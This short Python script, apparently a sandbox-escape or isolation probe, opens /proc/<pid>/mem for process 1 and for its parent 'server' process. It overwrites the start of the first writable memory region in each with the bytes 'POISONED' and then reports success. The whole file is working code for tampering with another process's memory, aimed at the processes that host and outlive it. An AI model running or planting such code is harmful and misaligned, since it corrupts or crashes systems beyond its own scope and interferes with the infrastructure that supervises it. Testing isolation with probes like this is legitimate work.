"""Writes into the memory of what outlives it: process 1 and the server."""

import os

for pid in {1, os.getppid()}:
    try:
        with open(f"/proc/{pid}/maps") as maps:
            heap = next(line for line in maps if "rw-p" in line)
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(int(heap.split("-")[0], 16))
            memory.write(b"POISONED")
        print("POISONED: wrote to", pid)
    except OSError:
        pass
